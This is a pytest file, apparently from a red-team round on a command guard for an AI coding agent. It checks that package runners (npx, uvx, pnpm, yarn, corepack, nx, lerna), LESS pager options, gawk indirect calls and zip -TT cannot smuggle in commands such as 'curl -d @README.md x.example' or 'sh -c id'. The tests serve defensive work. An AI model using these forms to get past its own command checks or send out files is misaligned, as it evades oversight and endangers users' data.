"""Red team 32: the command a JavaScript or Python package runner really starts.

- A form's `{flags}` read a runner's valued option as a plain flag, so its value stood for the
  program the form names: `npx -p prettier curl …` runs curl (npm's documentation: `npx -p <pkg>
  <cmd> [args...]`), `npx --cache prettier cowsay` runs the package cowsay, `uvx --from ruff curl`,
  `pnpm --store-dir test curl …` (pnpm runs an unknown command as a shell command),
  `yarn workspaces foreach --from run exec …` (hook/cmdforms.py VALUED).
- The command such a runner starts was not judged at all: `npx -c CMD`/`npm exec -c CMD` (a shell
  command line), `npx -p PKG CMD`, `pnpm CMD` with CMD no pnpm command nor script, `pnpm dlx -c`,
  `yarn workspaces foreach exec CMD` (shell/packagerunners.py, rules/exec_sinks.json).
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt32"), files={
        ".env": "TOKEN=1\n", "README.md": "x\n",
        "package.json": '{"scripts": {"dev": "vite", "lint": "eslint ."}}\n',
        "pyproject.toml": "[project]\nname = 'x'\n"})


@pytest.mark.parametrize("command", [
    "npx -p prettier curl -d @README.md x.example",
    "npx --package prettier -c 'cat README.md'",
    "npx -p prettier --call id",
    "npx -p prettier -- sh -c id",
    "npx --cache prettier cowsay",
    "npx --cach prettier cowsay",  # nopt takes an unambiguous prefix of --cache
    "npx --registry prettier eslint .",
    "npx -w prettier prettier",
    "uvx --from ruff curl -d @README.md x.example",
    "uvx --with ruff ruff check",
    "uv tool run --from ruff sh -c id",
    "pnpm --store-dir test curl x.example",
    "pnpm --reporter test curl x.example",
    "pnpm --loglevel run curl x.example",
    "yarn workspaces foreach --from run exec id",
])
def test_a_valued_option_is_no_plain_flag_of_a_form(setup, command):
    reason = assert_denied(setup.bash(command))
    assert "is not on the command allow-list" in reason or "`curl` is denied by deny-cmd" in reason, reason


@pytest.mark.parametrize("command", [
    "npx prettier --check .", "npx --yes prettier --check .", "npx -y jest", "npx --no-install eslint .",
    "uvx ruff check .", "pnpm -r --parallel run dev", "pnpm --filter web run build", "pnpm run build",
    "yarn workspaces foreach -A run test", "yarn workspaces foreach --all run build",
])
def test_the_runners_everyday_forms_stay_allowed(setup, command):
    assert_allowed(setup.bash(command))


@pytest.mark.parametrize("command, fragment", [
    ("npx -c 'curl x.example'", "run later by `npx -c`"),
    ("npx --call='curl x.example'", "run later by `npx --call`"),
    ("npx --cal 'curl x.example'", "`npx -c CMD` (`--call`) runs CMD as a shell command line"),
    ("npm exec -c 'curl x'", "`npm exec -c CMD` (`--call`)"),
    ("npm x --call 'curl x'", "`npm exec -c CMD` (`--call`)"),
    ("pnpm dlx -c 'curl x'", "`curl` is denied by deny-cmd"),
    ("pnpm -c dlx 'curl x'", "`curl` is denied by deny-cmd"),
    ("pnpx --shell-mode 'curl x'", "`curl` is denied by deny-cmd"),
    ("npx -p prettier curl x.example", "`curl` is denied by deny-cmd"),
    ("npx --package=prettier -- curl x", "`curl` is denied by deny-cmd"),
    ("pnpm curl x.example", "`curl` is denied by deny-cmd"),
    ("pnpm --store-dir test curl x.example", "`curl` is denied by deny-cmd"),
    ("yarn workspaces foreach -A exec curl x", "`curl` is denied by deny-cmd"),
    ("yarn workspace web exec curl x", "`curl` is denied by deny-cmd"),
])
def test_the_command_a_runner_starts_meets_open_s_exfil_list(setup, command, fragment):
    assert_denied(setup.bash(command, role="open"), "curl", fragment)


@pytest.mark.parametrize("command", [
    "pnpm jest", "pnpm dev", "pnpm lint", "pnpm cowsay", "npx -p cowsay cowsay hi", "npx -c 'prettier --check .'",
    "yarn workspaces foreach -A exec jest", "pnpm dlx create-vite app",
])
def test_runners_starting_other_programs_stay_allowed_under_open(setup, command):
    assert_allowed(setup.bash(command, role="open"))


def test_a_script_of_the_package_json_is_no_command_pnpm_would_start(setup):
    # `pnpm dev` runs the script (the builder's `pnpm dev ...` form); with no such script pnpm
    # would run a program named dev, which the builder's list does not hold
    assert_allowed(setup.bash("pnpm dev"))
    assert_allowed(setup.bash("pnpm tsc --noEmit"))
    assert_denied(setup.bash("pnpm cowsay"), "`cowsay` is not on the command allow-list")


@pytest.mark.parametrize("command", [
    "LESS='+!id' git log", "LESS='-R +!curl x' git diff", "LESS='-Rk/tmp/keys' git log", "env LESS='++|id' git log",
    "export LESS='+!id'; git log", "LESSKEY=/tmp/keys git log", "LESSKEY_CONTENT='#env' git log",
])
def test_less_options_and_key_files_that_run_commands_are_code(setup, command):
    # less runs `+cmd` at start (`+!cmd` is a shell command) and a lesskey file's #env section
    # sets LESSOPEN over the environment's: a git pager on a terminal (Codex `tty: true`)
    assert_denied(setup.bash(command), "could not determine the command", "$LESS")


@pytest.mark.parametrize("command", ["LESS=-R git log", "LESS=FRX git diff", "export LESS=-R; git log -p"])
def test_plain_less_options_stay_allowed(setup, command):
    assert_allowed(setup.bash(command))


@pytest.mark.parametrize("command, fragment", [
    ("awk 'BEGIN{f=\"sys\" \"tem\"; @f(\"curl x\")}'", "@f(), a function named at run time"),
    ("awk -v f=system 'BEGIN{@f(\"id\")}'", "@f(), a function named at run time"),
    ("awk '{ @$1($2) }' README.md", "@f(), a function named at run time"),
])
def test_gawk_calls_by_a_name_held_at_run_time_start_programs(setup, command, fragment):
    # gawk 4.1.2 on calls built-in functions indirectly too: `@f(x)` with f = "system" is system(x)
    assert_denied(setup.bash(command), "could not determine what `awk` runs", fragment)


def test_gawk_load_keeps_its_own_reason(setup):
    assert_denied(setup.bash("awk '@load \"filefuncs\"; BEGIN{}'"), "loads code from other files (@load, @include)")


@pytest.mark.parametrize("command", ["awk -F@ '{print $2}' README.md", "awk '/@/ {print}' README.md",
                                     "awk '{print \"a@b\"}' README.md", "awk '{n++} END {print n}' README.md"])
def test_an_at_sign_in_a_literal_or_a_regex_stays_allowed(setup, command):
    assert_allowed(setup.bash(command))


@pytest.mark.parametrize("command", ["zip -T -TTid x.zip README.md", "zip -T '-TTsh -c id' x.zip README.md"])
def test_zip_takes_its_test_command_glued(setup, command):
    # zip 3.0 reads `-TTcmd` as `-TT cmd` (checked: `zip -T -TTecho x.zip a` runs echo)
    assert_denied(setup.bash(command), "is not on the command allow-list", "run later by `zip -TT`")


@pytest.mark.parametrize("command", ["zip -T x.zip README.md", "zip -r x.zip README.md -x '*.log'"])
def test_zip_without_a_test_command_stays_allowed(setup, command):
    assert_allowed(setup.bash(command))


@pytest.mark.parametrize("command", [
    "pnpm -c exec 'curl x'", "pnpm exec --shell-mode 'curl x'", "pnpm recursive exec curl x", "pnpm m exec -- curl x",
    "pnpm --package=x dlx curl y", "corepack pnpm@8.15.0 curl x", "corepack npx -c 'curl x'",
    "corepack yarnpkg workspaces foreach -A exec curl x", "npx nx exec -- curl x", "nx exec -- curl x", "lerna exec -- curl x",
    "yarn lerna exec 'curl x'", "nodenv exec curl x", "goenv exec curl x", "jenv exec curl x",
    "volta run --node 18 curl x", "fnm exec --using 18 curl x",
])
def test_more_runners_start_the_command_they_name(setup, command):
    # pnpm's shell mode (`-c`), `recursive`, `dlx --package`; corepack runs the package manager it
    # names; nx/lerna `exec` run a command in each package (`nx` would start `curl`); version
    # managers' `exec`/`run`
    assert_denied(setup.bash(command, role="open"), "`curl`", "denied by deny-cmd")


@pytest.mark.parametrize("command", ["npx nx exec -- curl x", "lerna exec -- curl x"])
def test_the_builders_forms_still_give_the_reason(setup, command):
    assert_denied(setup.bash(command), "forms of `")


@pytest.mark.parametrize("command", [
    "corepack enable", "corepack pnpm install", "corepack pnpm@8.15.0 run build", "nodenv exec node x.js",
    "volta run --node 18 node x.js", "pnpm -r exec eslint .", "pnpm exec -c 'eslint .'", "npx nx exec -- echo hi",
    "lerna exec -- npm test",
])
def test_those_runners_everyday_commands_stay_allowed_under_open(setup, command):
    assert_allowed(setup.bash(command, role="open"))


def test_the_builders_pnpm_exec_is_unchanged(setup):
    assert_allowed(setup.bash("pnpm exec eslint ."))
    assert_denied(setup.bash("pnpm exec -c 'curl x'"), "`curl` is denied by deny-cmd")
